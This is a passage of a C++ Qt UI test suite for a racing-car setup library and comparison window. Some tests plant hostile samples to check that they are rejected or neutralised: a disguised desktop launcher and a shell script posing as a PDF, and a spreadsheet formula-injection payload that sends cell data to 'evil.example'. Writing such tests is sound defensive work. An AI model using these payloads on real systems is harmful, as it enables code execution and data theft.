// The library window and the comparison, driven as a racer does, over a
// library of generated setups in the test's own program folder: the search,
// loading a setup, deleting one, opening and rebuilding a sheet, import and
// export, and the comparison with its PDF.

#include <QCheckBox>
#include <QLineEdit>
#include "PdfText.h"
#include <QPointer>
#include <QProgressDialog>
#include <QPushButton>
#include <QTableView>
#include <QTableWidget>

#include <functional>
#include <memory>
#include <random>

#include "AnsweredDialogs.h"
#include "CarriedSheets.h"
#include "Installation.h"
#include "platform/Process.h"
#include "CompareWindow.h"
#include "Links.h"
#include "NamedPipes.h"
#include "LibraryModel.h"
#include "LibraryWindow.h"
#include "MessageBox.h"
#include "WindowDriver.h"
#include "WindowTestFolder.h"
#include "library/SetupLibrary.h"
#include "platform/Profile.h"

using vantrel::frmVantrel;
using vantrel::MessageBox;
using vantrel::SetupField;
using vantrel::SetupFieldCount;
using namespace vantrel::library;
using namespace windowtest;

namespace {

// Setups as a season brings them: names with accents, option groups on
// real holes, the rest random but each setup different.
// A note as long as a text box takes (254 characters), ending in words of its own.
const std::string kLongNote = [] {
    std::string note = "Long note:";
    while (note.size() < 229) note += " more rear grip on the bumpy back straight,";
    note.resize(229);
    return note + " the very last words here";
}();

SetupEntry seasonSetup(std::mt19937& rng, int n) {
    static const char* const kDrivers[] = {"Jürgen Bär", "Åsa Lind", "Marco Rossi"};
    static const char* const kWords[] = {"4 deg", "Composite", "2.5", "-1", "35 WT", "Pink", "13.5T", "Carpet"};
    SetupEntry e;
    e.created = "2026-0" + std::to_string(1 + n) + "-1" + std::to_string(n) + "T10:00:00+02:00";
    e.setupType = "RDX";
    // Most of a car stays as it was from round to round; a few fields change.
    for (std::size_t i = 0; i < e.values.size(); ++i)
        e.values[i] = kWords[(rng() % 4 == 0 ? rng() : i) % std::size(kWords)];
    auto set = [&](SetupField f, std::string v) { e.values[std::size_t(f)] = std::move(v); };
    set(SetupField::DriverName, kDrivers[n % 3]);
    set(SetupField::TrackCity, n % 2 ? "Zürich" : "Northtown");
    set(SetupField::EventName, "Round " + std::to_string(n + 1));
    set(SetupField::FrontToeIn, n % 2 ? "" : "1.5");
    set(SetupField::FrontToeOut, n % 2 ? "1" : "");
    set(SetupField::FrontShockTower, std::to_string(1 + n % 4));
    set(SetupField::FrontArmShock, std::to_string(2 + n % 3));
    set(SetupField::FrontArmLength, n % 2 ? "Short" : "Long");
    set(SetupField::RearArmShock, "3");
    set(SetupField::RearArmLength, "Long");
    set(SetupField::FrontKickupF, "2");
    set(SetupField::FrontShockOil, "35");
    set(SetupField::Notes, n == 3 ? "Pushes out of the hairpin" : n == 1 ? kLongNote : "");
    static const char* const kPositions[] = {"10", "1st", "2nd", "3rd", "4th", "5", "6th", "7th"};
    set(SetupField::ResultsFinishPos, kPositions[n % 8]);
    return e;
}

QString fromStd(const std::string& s) { return QString::fromStdString(s); }

}  // namespace

class LibraryWindowTest : public QObject {
    Q_OBJECT
    std::unique_ptr<WindowTestFolder> m_folder;
    windowtest::AnsweredDialogs m_dialogs;
    QPointer<frmVantrel> m_main;
    std::string m_libraryPath;
    std::vector<SetupEntry> m_setups;  // as recorded, oldest first

    LibraryWindow* openLibrary() {
        QTest::keyClick(m_main, Qt::Key_L, Qt::ControlModifier);
        auto* window = m_main->findChild<LibraryWindow*>("frmLibrary");
        return window && window->isVisible() ? window : nullptr;
    }
    static QStringList column(const QTableView* table, int c) {
        QStringList out;
        for (int r = 0; r < table->model()->rowCount(); ++r) out << table->model()->index(r, c).data().toString();
        return out;
    }
    static void choose(LibraryWindow* window, const QList<int>& rows) {
        window->table()->clearSelection();
        for (int r : rows)
            window->table()->selectionModel()->select(window->table()->model()->index(r, 0),
                                                      QItemSelectionModel::Select | QItemSelectionModel::Rows);
    }
    // The row of the setup recorded n-th, in the table as it stands.
    static int rowOfEvent(const QTableView* table, int n) {
        return int(column(table, LibraryModel::Event).indexOf(QString("Round %1").arg(n + 1)));
    }

    // The page count of an A4 PDF (0 when it is not one) and its text.
    static std::pair<int, QString> pdfText(const QString& pdf) {
        const auto info = testsupport::poppler("pdfinfo", {}, pdf);
        if (!info.error.isEmpty() || !info.text.contains("595 x 842 pts (A4)")) return {0, info.error};
        const int pages = info.text.section("Pages:", 1).section('\n', 0, 0).trimmed().toInt();
        const auto text = testsupport::pdfText(pdf, {"-layout"});
        return {pages, text.error.isEmpty() ? text.text : text.error};
    }

private slots:
    void init() {
        m_folder = std::make_unique<WindowTestFolder>();
        MessageBox::clearHistory();
        m_main = new frmVantrel(vantrel::Installation::read(platform::process::programFolder()),
                                {.dialogs = m_dialogs.dialogs()});
        m_main->show();
        m_main->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(m_main));
        m_libraryPath = vantrel::Installation::read(platform::process::programFolder()).libraryFile();
        QCOMPARE(fromStd(m_libraryPath), fromStd((m_folder->path() / "Data" / "Library.sqlite").string()));
        SetupLibrary library(m_libraryPath);
        std::mt19937 rng(14);
        m_setups.clear();
        for (int n = 0; n < 6; ++n) {
            m_setups.push_back(seasonSetup(rng, n));
            m_setups.back().sheet = (m_folder->sheetsFolder() / ("Round" + std::to_string(n + 1) + ".pdf")).string();
            library.record(m_setups.back());
        }
    }
    void cleanup() {
        m_dialogs.answerFiles(nullptr);
        delete m_main.data();
        m_folder.reset();
    }

    // A library larger than a page: the view reads more as it scrolls, a
    // sort by another column reads all, a search keeps only its own setups.
    void aLargeLibraryIsReadAsTheViewScrolls() {
        {
            SetupLibrary library(m_libraryPath);
            std::mt19937 rng(5);
            for (int n = 0; n < 700; ++n) {
                SetupEntry e = seasonSetup(rng, n % 9);
                e.values[std::size_t(SetupField::EventName)] = "Heat " + std::to_string(n);
                library.record(e);
            }
        }
        LibraryWindow* window = openLibrary();
        QVERIFY(window);
        QTableView* table = window->table();
        QCOMPARE(table->model()->rowCount(), int(LibraryModel::PageRows));
        QTRY_COMPARE(window->findChild<QLabel*>("lblCount")->text(), QString("706 setups"));
        table->scrollToBottom();
        QTRY_VERIFY(table->model()->rowCount() > int(LibraryModel::PageRows));
        table->sortByColumn(LibraryModel::Event, Qt::AscendingOrder);
        QCOMPARE(table->model()->rowCount(), 706);
        QCOMPARE(column(table, LibraryModel::Event).filter("Heat ").size(), 700);
        table->sortByColumn(LibraryModel::Created, Qt::DescendingOrder);
        auto* search = window->findChild<QLineEdit*>("txtSearch");
        typeText(search, "heat 69");
        // As many as the store's own search finds ("Heat 69", "Heat 690" and on, and others with a 69).
        const int found = int(SetupLibrary(m_libraryPath).matchingIds("heat 69").size());
        QVERIFY(found >= 11 && found < int(LibraryModel::PageRows));
        QTRY_COMPARE(table->model()->rowCount(), found);
        QTRY_COMPARE(window->findChild<QLabel*>("lblCount")->text(), QString("%1 of 706 setups").arg(found));
    }

    void anUnusableLibrarySettingSaysWhy() {
        const std::string settings = (m_folder->path() / "bin" / "Vantrel.ini").string();
        QVERIFY(platform::profile::writeEntry(settings, "Vantrel", "LibraryFile", "../Elsewhere.sqlite"));
        // The settings are read where the program starts: the window of the next start.
        delete m_main.data();
        m_main = new frmVantrel(vantrel::Installation::read(platform::process::programFolder()),
                                {.dialogs = m_dialogs.dialogs()});
        m_main->show();
        m_main->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(m_main));
        MessageBox::setNextAnswer(QMessageBox::Ok);
        QVERIFY(!openLibrary());
        QCOMPARE(MessageBox::history().size(), qsizetype(1));
        const QString text = MessageBox::history().first().text;
        QVERIFY2(text.startsWith("Error: frmVantrel::openLibrary-The setting LibraryFile=../Elsewhere.sqlite"),
                 qPrintable(text));
    }

    void listsAndSearches() {
        // The button on the File tab and Ctrl+L open the one window.
        auto* button = m_main->control<QPushButton>("cmdLibrary");
        QVERIFY(button);
        QCOMPARE(button->text(), QString("Library…"));
        LibraryWindow* window = openLibrary();
        QVERIFY(window);
        QVERIFY(!window->isModal());
        button->click();
        QCOMPARE(m_main->findChildren<LibraryWindow*>().size(), 1);

        QTableView* table = window->table();
        QCOMPARE(column(table, LibraryModel::Event),
                 (QStringList{"Round 6", "Round 5", "Round 4", "Round 3", "Round 2", "Round 1"}));
        QCOMPARE(column(table, LibraryModel::Created).front(), QString("2026-06-15 10:00"));

        // Typing filters once it rests, without case and accents, across every field.
        auto* search = window->findChild<QLineEdit*>("txtSearch");
        const struct {
            const char* typed;
            QStringList events;
        } searches[] = {
            {"bar", {"Round 4", "Round 1"}},
            {"ASA", {"Round 5", "Round 2"}},
            {"zurich round", {"Round 6", "Round 4", "Round 2"}},
            {"hairpin", {"Round 4"}},
            {"nowhere at all", {}},
        };
        for (const auto& s : searches) {
            search->clear();
            typeText(search, QString::fromUtf8(s.typed));
            QTRY_COMPARE(column(table, LibraryModel::Event), s.events);
            const QString found =
                s.events.size() == 6 ? QString("6 setups") : QString("%1 of 6 setups").arg(s.events.size());
            QTRY_COMPARE(window->findChild<QLabel*>("lblCount")->text(), found);
        }
        search->clear();
        QCOMPARE(table->model()->rowCount(), 6);
        QTRY_COMPARE(window->findChild<QLabel*>("lblCount")->text(), QString("6 setups"));

        // Sorting by a column: positions by their numbers.
        table->sortByColumn(LibraryModel::Finishing, Qt::AscendingOrder);
        QCOMPARE(column(table, LibraryModel::Finishing), (QStringList{"1st", "2nd", "3rd", "4th", "5", "10"}));
        table->sortByColumn(LibraryModel::Created, Qt::DescendingOrder);
        QCOMPARE(column(table, LibraryModel::Event).front(), QString("Round 6"));

        // A setup recorded meanwhile (by a run) shows when the window is active again.
        std::mt19937 rng(3);
        SetupLibrary(m_libraryPath).record(seasonSetup(rng, 7));
        QEvent activate(QEvent::WindowActivate);
        QApplication::sendEvent(window, &activate);
        QCOMPARE(column(table, LibraryModel::Event).front(), QString("Round 8"));
    }

    void damagedLibraryIsLeftAsItWas() {
        const std::string garbage = "This is not a library\r\n" + std::string(5000, '\x7f');
        std::filesystem::remove(m_libraryPath);
        m_folder->write("Data/Library.sqlite", garbage);
        MessageBox::setNextAnswer(QMessageBox::Ok);
        LibraryWindow* window = openLibrary();
        QVERIFY(window);
        QCOMPARE(MessageBox::history().size(), 1);
        QVERIFY2(MessageBox::history().front().text.contains(fromStd(m_libraryPath)),
                 qPrintable(MessageBox::history().front().text));
        QCOMPARE(window->table()->model()->rowCount(), 0);
        QVERIFY(!window->findChild<QPushButton*>("cmdImport")->isEnabled());
        QCOMPARE(WindowTestFolder::readFile(m_libraryPath), garbage);
    }

    void loadsAndDeletes() {
        LibraryWindow* window = openLibrary();
        QVERIFY(window);
        vantrel::Setup loaded;
        QString loadedType;
        connect(window, &LibraryWindow::loadRequested, this, [&](const vantrel::Setup& values, const QString& type) {
            loaded = values;
            loadedType = type;
        });
        choose(window, {rowOfEvent(window->table(), 3)});
        // The random words of the season stand in option fields too: the main
        // window lists what it cannot show, and loads the rest.
        MessageBox::setNextAnswer(QMessageBox::Ok);
        window->findChild<QPushButton*>("cmdLoad")->click();
        QVERIFY(loaded == m_setups[3].values);
        QCOMPARE(loadedType, QString("RDX"));
        QCOMPARE(m_main->control<QLineEdit>("txtDriverName")->text(),
                 fromStd(m_setups[3].values[std::size_t(SetupField::DriverName)]));
        QCOMPARE(m_main->control<QLineEdit>("txtEventName")->text(), QString("Round 4"));
        MessageBox::clearHistory();

        // A value that is not UTF-8 reaches the main window as it is stored,
        // and is named there instead of shown changed.
        SetupEntry latin1 = m_setups[0];
        latin1.values[std::size_t(SetupField::EventName)] = "Caf\xe9 Cup";
        const std::int64_t latin1Id = SetupLibrary(m_libraryPath).record(latin1);
        window->reload();
        choose(window,
               {int(column(window->table(), LibraryModel::Event).indexOf(QString::fromUtf8("Caf\xef\xbf\xbd Cup")))});
        MessageBox::setNextAnswer(QMessageBox::Ok);
        window->findChild<QPushButton*>("cmdLoad")->click();
        QCOMPARE(loaded[std::size_t(SetupField::EventName)], std::string("Caf\xe9 Cup"));
        QVERIFY(!MessageBox::history().isEmpty());
        QVERIFY2(MessageBox::history().last().text.contains("\nEventName = "),
                 qPrintable(MessageBox::history().last().text));
        MessageBox::clearHistory();
        SetupLibrary(m_libraryPath).remove(latin1Id);
        window->reload();

        // Delete asks first; "No" keeps the setup, "Yes" removes it and never its sheet.
        const auto sheet = m_folder->write("Sheets/Round4.pdf", "%PDF-1.4 stand-in");
        choose(window, {rowOfEvent(window->table(), 3)});
        MessageBox::setNextAnswer(QMessageBox::No);
        window->findChild<QPushButton*>("cmdDelete")->click();
        QCOMPARE(window->table()->model()->rowCount(), 6);
        MessageBox::setNextAnswer(QMessageBox::Yes);
        window->findChild<QPushButton*>("cmdDelete")->click();
        QCOMPARE(MessageBox::history().size(), 2);
        QCOMPARE(MessageBox::history().back().icon, QMessageBox::Question);
        QCOMPARE(window->table()->model()->rowCount(), 5);
        QCOMPARE(rowOfEvent(window->table(), 3), -1);
        QCOMPARE(SetupLibrary(m_libraryPath).count(), std::size_t(5));
        QVERIFY(std::filesystem::exists(sheet));
    }

    void opensOrRebuildsTheSheet() {
        LibraryWindow* window = openLibrary();
        QVERIFY(window);
        // A sheet that is there goes to the viewer.
        m_folder->write("Sheets/Round2.pdf", "%PDF-1.4 stand-in");
        choose(window, {rowOfEvent(window->table(), 1)});
        window->findChild<QPushButton*>("cmdOpenSheet")->click();
        QTRY_COMPARE(m_folder->viewerCalls(), QStringList{fromStd((m_folder->sheetsFolder() / "Round2.pdf").string())});
        QVERIFY(MessageBox::history().isEmpty());
        {
            // A desktop that finds no viewer: said, with the sheet's path.
            m_folder->viewer().findsNone();
            MessageBox::setNextAnswer(QMessageBox::Ok);
            window->findChild<QPushButton*>("cmdOpenSheet")->click();
            QCOMPARE(MessageBox::history().size(), 1);
            QCOMPARE(MessageBox::history().front().text,
                     "No viewer could open " + fromStd((m_folder->sheetsFolder() / "Round2.pdf").string()) + ": " +
                         fromStd(testsupport::StandInViewer::openWords()) + "; open it by hand");
            MessageBox::clearHistory();
            m_folder->viewer().records();
        }

        // One that has gone: said so, and built anew by the real pipeline
        // from the stored setup into the chosen folder.
        const auto rebuilt = m_folder->path() / "Rebuilt";
        std::filesystem::create_directories(rebuilt);
        m_dialogs.answerFiles(vantrel::FileChoice::RebuildFolder, {fromStd(rebuilt.string())});
        choose(window, {rowOfEvent(window->table(), 4)});
        MessageBox::setNextAnswer(QMessageBox::Yes);
        window->openSheet();
        QVERIFY(MessageBox::history().size() >= 1);
        QVERIFY2(MessageBox::history().front().text.contains("Round5.pdf is no longer there"),
                 qPrintable(MessageBox::history().front().text));
        QCOMPARE(MessageBox::history().size(), 1);
        std::vector<std::filesystem::path> sheets;
        for (const auto& entry : std::filesystem::directory_iterator(rebuilt)) sheets.push_back(entry.path());
        QCOMPARE(sheets.size(), std::size_t(1));
        const auto fields = WindowTestFolder::formFields(sheets.front());
        QCOMPARE(fromStd(fields.at("fldDriverName")), fromStd(m_setups[4].values[0]));
        QCOMPARE(fromStd(fields.at("fldBody")), fromStd(m_setups[4].values[std::size_t(SetupField::Body)]));
        QTRY_COMPARE(m_folder->viewerCalls().size(), 2);
        QCOMPARE(m_folder->viewerCalls().back(), fromStd(sheets.front().string()));
    }

    // A sheet's path is stored as a run, a team sheet or an imported CSV gave
    // it: Open Sheet hands the viewer only a PDF named by its full path, and
    // says why not otherwise, for each of these in the path's place.
    void showsOnlyAPdfNamedByItsFullPath() {
        LibraryWindow* window = openLibrary();
        QVERIFY(window);
        const auto sheets = m_folder->sheetsFolder();
        const auto pdf = m_folder->write("Sheets/Real.pdf", "%PDF-1.4 stand-in");
        m_folder->write("Sheets/-Real.pdf", "%PDF-1.4 stand-in");
        const bool linked = testsupport::madeLink(pdf, sheets / "Link.pdf");
        m_folder->write("Sheets/Evil.desktop", "[Desktop Entry]\nType=Application\nName=E\nExec=touch PWNED\n");
        m_folder->write("Sheets/Script.pdf", "#!/bin/sh\ntouch PWNED\n");
        m_folder->write("Sheets/Empty.pdf", "");
        m_folder->write("Sheets/Short.pdf", "%PDF");
        const bool piped = testsupport::madeNamedPipe(sheets / "Pipe.pdf");
        std::filesystem::create_directories(sheets / "Folder.pdf");
        struct Case {
            std::string sheet;
            const char* why;
        };
        std::vector<Case> cases = {
            {"Real.pdf", "it is not named by a full path"},
            {"-Real.pdf", "it is not named by a full path"},
            {"./Real.pdf", "it is not named by a full path"},
            {(sheets / "Evil.desktop").string(), "it is not a PDF file"},
            {(sheets / "Script.pdf").string(), "it is not a PDF file"},
            {(sheets / "Empty.pdf").string(), "it is not a PDF file"},
            {(sheets / "Short.pdf").string(), "it is not a PDF file"},
            {(sheets / "Folder.pdf").string(), "folder"},
        };
        if (linked) cases.push_back({(sheets / "Link.pdf").string(), "it is a symbolic link"});
        else qInfo("%s", testsupport::kNoLinks);
        if (piped) cases.push_back({(sheets / "Pipe.pdf").string(), "named pipe"});
        else qInfo("%s", testsupport::kNoNamedPipes);
        // The window was started in the sheets' folder, where a relative name would be found.
        const QString startedIn = QDir::currentPath();
        QDir::setCurrent(fromStd(sheets.string()));
        SetupLibrary library(m_libraryPath);
        for (std::size_t i = 0; i < std::size(cases); ++i) {
            SetupEntry hostile = m_setups[0];
            hostile.values[std::size_t(SetupField::EventName)] = "Hostile " + std::to_string(i);
            hostile.sheet = cases[i].sheet;
            library.record(hostile);
            window->reload();
            choose(window, {int(column(window->table(), LibraryModel::Event)
                                    .indexOf(fromStd(hostile.values[std::size_t(SetupField::EventName)])))});
            MessageBox::clearHistory();
            MessageBox::setNextAnswer(QMessageBox::Ok);
            window->findChild<QPushButton*>("cmdOpenSheet")->click();
            QVERIFY2(MessageBox::history().size() == 1, cases[i].sheet.c_str());
            const QString said = MessageBox::history().front().text;
            QVERIFY2(said.startsWith("Vantrel does not show the sheet " + fromStd(cases[i].sheet) + ": ") &&
                         said.contains(cases[i].why),
                     qPrintable(said));
        }
        QDir::setCurrent(startedIn);
        QVERIFY(m_folder->viewerCalls().isEmpty());
        QVERIFY(!std::filesystem::exists(sheets / "PWNED"));
    }

    void importsAndExports() {
        LibraryWindow* window = openLibrary();
        QVERIFY(window);
        std::mt19937 rng(7);
        auto raw = [](const vantrel::Setup& values) {
            std::string text = "[SetupData]\r\n";
            for (std::size_t i = 0; i < SetupFieldCount; ++i)
                text += std::string(vantrel::SetupFieldKeys[i]) + "=" + values[i] + "\r\n";
            return text;
        };
        m_folder->write("Import/a/New1.dat", raw(seasonSetup(rng, 7).values));
        m_folder->write("Import/b/New2.dat", raw(seasonSetup(rng, 8).values));
        m_folder->write("Import/Again.dat", raw(m_setups[0].values));
        m_folder->write("Import/notes.txt", "Pinion 34, spur 78\r\n");
        const auto photo = m_folder->write("photo.jpg", "\xff\xd8\xff");
        MessageBox::setNextAnswer(QMessageBox::Ok);
        window->importPaths({fromStd((m_folder->path() / "Import").string()), fromStd(photo.string())});
        QCOMPARE(MessageBox::history().size(), 1);
        const QString report = MessageBox::history().front().text;
        QVERIFY2(report.contains("Added: 2") && report.contains("Already there: 1") && report.contains("photo.jpg") &&
                     report.contains("notes.txt"),
                 qPrintable(report));
        QCOMPARE(window->table()->model()->rowCount(), 8);

        const QString csv = fromStd((m_folder->path() / "Library.csv").string());
        m_dialogs.answerFiles(vantrel::FileChoice::ExportCsv, {csv});
        MessageBox::setNextAnswer(QMessageBox::Ok);
        window->findChild<QPushButton*>("cmdExportCsv")->click();
        const std::string text = WindowTestFolder::readFile(csv.toStdString());
        QVERIFY(text.starts_with("\"Created\",\"SetupType\",\"Sheet\",\"DriverName\""));
        QCOMPARE(std::count(text.begin(), text.end(), '\n'), 9L);
    }

    // The sheets of the racer's own run, a team mate's and a stranger's come
    // in through Import… as --import takes them: each setup and run is its
    // driver's, against the racer of the installation the window runs in.
    void importsEachSheetAsItsDriversAsTheBatchImportDoes() {
        const auto owned = [](const carriedsheets::Owners& owners) {
            QStringList out;
            for (const auto& [driver, whose] : owners) out << fromStd(driver + " (" + whose + ")");
            return out.join(", ");
        };
        const auto team = m_folder->path() / "Team", carried = m_folder->path() / "Carried";
        std::filesystem::create_directories(team);
        std::filesystem::create_directories(carried);
        // Made beside this installation's library, by the racer's installation with a team folder.
        const std::string settings = (m_folder->path() / "bin" / "Vantrel.ini").string();
        QVERIFY(platform::profile::writeEntry(settings, "Vantrel", "TeamFolder", team.string()));
        QVERIFY(platform::profile::writeEntry(settings, "Vantrel", "LibraryFile", "Maker.sqlite"));
        QCOMPARE(fromStd(carriedsheets::makeCarriedSheets(m_folder->path(), team, carried)), QString());
        int n = 0;
        for (const auto& [racer, owners] : carriedsheets::kAfterImport) {
            // The installation's racer is its raw data file's driver, as for --import.
            QVERIFY(platform::profile::writeEntry(m_folder->rawDataFile().string(), "SetupData", "DriverName", racer));
            const std::string library =
                (m_folder->path() / "Data" / ("Imported" + std::to_string(++n) + ".sqlite")).string();
            LibraryWindow window(library, vantrel::setupTypeFolders(m_main->installation()), m_dialogs.dialogs(),
                                 m_main.data());
            window.show();
            MessageBox::clearHistory();
            MessageBox::setNextAnswer(QMessageBox::Ok);
            window.importPaths({fromStd(carried.string())});
            QCOMPARE(MessageBox::history().size(), 1);
            QVERIFY2(MessageBox::history().front().text.contains("Added: 3"),
                     qPrintable(MessageBox::history().front().text));
            QCOMPARE(owned(carriedsheets::setupOwners(library)), owned(owners));
            QCOMPARE(owned(carriedsheets::runOwners(library)), owned(owners));
        }
    }

    // A team mate's text goes out as text a spreadsheet never runs and comes back exactly;
    // a CSV of rows that hold nothing costs one line of the report.
    void exportsTextAsTextAndACsvOfNothingCostsOneLine() {
        {
            SetupLibrary library(m_libraryPath);
            std::mt19937 rng(38);
            auto hostile = seasonSetup(rng, 5);
            hostile.created = "2026-07-01T10:00:00+02:00";
            hostile.values[std::size_t(SetupField::DriverName)] = "=1+2";
            hostile.values[std::size_t(SetupField::Notes)] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
            hostile.values[std::size_t(SetupField::FrontCamber)] = "-2.0";
            library.record(hostile);
        }
        LibraryWindow* window = openLibrary();
        QVERIFY(window);
        const auto csv = m_folder->path() / "Out" / "Library.csv";
        std::filesystem::create_directories(csv.parent_path());
        m_dialogs.answerFiles(vantrel::FileChoice::ExportCsv, {fromStd(csv.string())});
        MessageBox::setNextAnswer(QMessageBox::Ok);
        window->findChild<QPushButton*>("cmdExportCsv")->click();
        const std::string text = WindowTestFolder::readFile(csv);
        QVERIFY(text.find(",\"'=1+2\",") != std::string::npos);
        QVERIFY(text.find(",\"'=HYPERLINK(\"\"http") != std::string::npos);
        QVERIFY(text.find(",\"-2.0\",") != std::string::npos);
        QVERIFY(text.find(",\"=") == std::string::npos);

        // Taken back, every setup is there already: each value came back exactly.
        MessageBox::clearHistory();
        MessageBox::setNextAnswer(QMessageBox::Ok);
        window->importPaths({fromStd(csv.string())});
        QCOMPARE(MessageBox::history().size(), 1);
        QString report = MessageBox::history().front().text;
        QVERIFY2(report.contains("Added: 0") && report.contains("Already there: 7"), qPrintable(report));

        std::string nothing = text.substr(0, text.find("\r\n") + 2);
        for (int i = 0; i < 50000; ++i) nothing += "R\r\n";
        const auto empty = m_folder->write("Nothing.csv", nothing);
        MessageBox::clearHistory();
        MessageBox::setNextAnswer(QMessageBox::Ok);
        window->importPaths({fromStd(empty.string())});
        QCOMPARE(MessageBox::history().size(), 1);
        report = MessageBox::history().front().text;
        QVERIFY2(report.contains("Added: 0") && report.count("hold no setup") == 1 &&
                     report.contains("50,000 rows hold no setup"),
                 qPrintable(report));
        QCOMPARE(window->table()->model()->rowCount(), 7);
    }

    // Cancel in the progress, and closing the window while the import runs (asked, then cancelled
    // and closed), both stop it after the file at hand and keep what it added.
    void importCancels() {
        // A reader that acts on the window's thread while it reads the second of five files.
        struct ActingReader : SetupFileReader {
            std::function<void()> act;
            mutable int reads = 0;
            bool claims(const std::filesystem::path& file) const override { return file.extension() == ".dat"; }
            std::optional<SetupEntry> read(const std::filesystem::path& file) const override {
                if (++reads == 2) QMetaObject::invokeMethod(qApp, act, Qt::BlockingQueuedConnection);
                SetupEntry e;
                e.setupType = "RDX";
                e.values[0] = file.filename().string();
                return e;
            }
        };
        for (const bool closing : {false, true}) {
            LibraryWindow* window = openLibrary();
            QVERIFY(window);
            QPointer<LibraryWindow> alive(window);
            auto reader = std::make_shared<ActingReader>();
            reader->act = [window, closing] {
                if (closing) {
                    MessageBox::setNextAnswer(QMessageBox::Yes);
                    window->close();
                    QVERIFY(window->isVisible());  // not before the import has stopped
                } else if (auto* progress = window->findChild<QProgressDialog*>("dlgImportProgress")) {
                    progress->findChild<QPushButton*>()->click();  // the racer's Cancel
                }
            };
            window->setReaders({reader});
            const std::string folder = closing ? "More" : "Many";
            for (int n = 0; n < 5; ++n) m_folder->write(folder + "/Setup" + std::to_string(n) + ".dat", "x");
            MessageBox::clearHistory();
            if (!closing) MessageBox::setNextAnswer(QMessageBox::Ok);
            window->importPaths({fromStd((m_folder->path() / folder).string())});
            QCOMPARE(reader->reads, 2);
            QCOMPARE(MessageBox::history().size(), 1);
            const QString text = MessageBox::history().front().text;
            if (closing) {
                QVERIFY2(text.contains("import") && text.contains("Cancel it and close"), qPrintable(text));
                QTRY_VERIFY(!alive || !alive->isVisible());
            } else {
                QVERIFY2(text.contains("cancelled") && text.contains("Added: 2"), qPrintable(text));
                QCOMPARE(window->table()->model()->rowCount(), 8);
            }
        }
    }

    void comparesASeasonInEventOrder() {
        // Built in another order than raced: the rounds stand by their event
        // dates, each headed by its event and date, the build time below.
        const char* const season[][3] = {{"Rd 3", "14.6.2026", "2026-06-20T09:00:00+02:00"},
                                         {"Rd 5", "2026-08-02", "2026-08-03T09:00:00+02:00"},
                                         {"Rd 1", "", "2026-04-11T09:00:00+02:00"}};
        std::vector<StoredSetup> setups;
        for (const auto& [event, date, built] : season) {
            StoredSetup s;
            s.id = std::int64_t(setups.size() + 1);
            s.created = built;
            s.setupType = "RDX";
            s.values[std::size_t(SetupField::EventName)] = event;
            s.values[std::size_t(SetupField::EventDate)] = date;
            s.values[std::size_t(SetupField::DriverName)] = "Åsa Lind";
            setups.push_back(s);
        }
        CompareWindow compare(setups, m_dialogs.dialogs(), m_main);
        QStringList headings;
        for (int c = 1; c < compare.table()->columnCount(); ++c)
            headings << compare.table()->horizontalHeaderItem(c)->text();
        QCOMPARE(headings, (QStringList{"Rd 1\n2026-04-11 · Åsa Lind\nbuilt 2026-04-11 09:00",
                                        "Rd 3\n2026-06-14 · Åsa Lind\nbuilt 2026-06-20 09:00",
                                        "Rd 5\n2026-08-02 · Åsa Lind\nbuilt 2026-08-03 09:00"}));
    }

    void comparesAndSavesPdf() {
        LibraryWindow* window = openLibrary();
        QVERIFY(window);
        // One setup cannot be compared.
        choose(window, {0});
        QVERIFY(!window->findChild<QPushButton*>("cmdCompare")->isEnabled());
        choose(window,
               {rowOfEvent(window->table(), 0), rowOfEvent(window->table(), 1), rowOfEvent(window->table(), 2)});
        window->findChild<QPushButton*>("cmdCompare")->click();
        auto* compare = window->findChild<CompareWindow*>();
        QVERIFY(compare && compare->isVisible());
        QTableWidget* table = compare->table();
        QCOMPARE(table->columnCount(), 4);

        // Tabs in the window's order, each field once, the option groups as a racer reads them.
        QStringList tabs;
        QMap<QString, QStringList> byCaption;
        int fields = 0;
        QString tab;
        for (int r = 0; r < table->rowCount(); ++r) {
            const QTableWidgetItem* caption = table->item(r, 0);
            if (caption->data(CompareWindow::HeadingRole).toBool()) {
                tab = caption->text();
                tabs << tab;
                continue;
            }
            ++fields;
            QStringList values;
            for (int c = 1; c < 4; ++c) values << table->item(r, c)->text();
            byCaption[tab + "/" + caption->text()] = values;
            // Highlighted exactly where the setups differ.
            const bool differs = values.count(values.front()) != values.size();
            QCOMPARE(caption->data(CompareWindow::DiffersRole).toBool(), differs);
            QCOMPARE(caption->background().style() != Qt::NoBrush, differs);
        }
        QCOMPARE(tabs, (QStringList{"Event Details", "Front", "Rear", "Tyres", "Other"}));
        QCOMPARE(fields, 70);  // 73 fields; toe and the two arms take two each
        QCOMPARE(byCaption.value("Event Details/Driver Name"), (QStringList{"Jürgen Bär", "Åsa Lind", "Marco Rossi"}));
        QCOMPARE(byCaption.value("Front/Toe"), (QStringList{"Toe-in 1.5 deg", "Toe-out 1 deg", "Toe-in 1.5 deg"}));
        QCOMPARE(byCaption.value("Front/Oil"), (QStringList{"35 WT", "35 WT", "35 WT"}));  // as the sheet shows it
        QCOMPARE(byCaption.value("Front/Shock Tower"), (QStringList{"hole 1", "hole 2", "hole 3"}));
        QCOMPARE(byCaption.value("Front/Arm"), (QStringList{"Long, hole 2", "Short, hole 3", "Long, hole 4"}));
        QCOMPARE(byCaption.value("Rear/Arm"), (QStringList{"Long, hole 3", "Long, hole 3", "Long, hole 3"}));
        QCOMPARE(byCaption.value("Front/Kick-up F"), (QStringList{"2", "2", "2"}));
        // The long note whole, its row as tall as its lines.
        QCOMPARE(byCaption.value("Event Details/Notes").value(1), fromStd(kLongNote));
        for (int r = 0; r < table->rowCount(); ++r)
            if (table->item(r, 0)->text() == "Notes") QVERIFY(table->rowHeight(r) >= 3 * table->fontMetrics().height());
        QVERIFY(byCaption.contains("Tyres/Front Compound") && byCaption.contains("Tyres/Rear Compound"));
        QVERIFY(byCaption.contains("Other/Comments"));

        // Only differences: every row left differs, and a tab without one goes.
        compare->findChild<QCheckBox*>("chkOnlyDifferences")->click();
        int shown = 0, hidden = 0;
        for (int r = 0; r < table->rowCount(); ++r) {
            const QTableWidgetItem* caption = table->item(r, 0);
            if (caption->data(CompareWindow::HeadingRole).toBool()) continue;
            if (table->isRowHidden(r)) ++hidden;
            else {
                ++shown;
                QVERIFY(caption->data(CompareWindow::DiffersRole).toBool());
            }
        }
        QVERIFY(shown > 0 && hidden > 0);
        QCOMPARE(shown + hidden, fields);

        // Save as PDF: the differences, on A4, readable as text.
